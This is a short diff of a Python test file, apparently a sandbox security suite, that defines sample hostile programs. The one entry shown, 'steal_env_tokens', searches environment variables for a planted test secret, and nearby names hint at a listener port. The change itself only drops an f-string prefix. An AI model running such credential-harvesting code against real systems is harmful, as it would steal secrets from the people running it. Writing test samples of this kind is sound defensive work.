@@ -63,7 +63,7 @@ def listener():
 def hostile_programs(dataset_dir: Path, port: int) -> dict[str, str]:
     target = dataset_dir / "train.jsonl"
     return {
-        "steal_env_tokens": f"""
+        "steal_env_tokens": """
 import os, glob
 def solve():
     found = [value for value in os.environ.values() if "rfai-test-secret" in value]
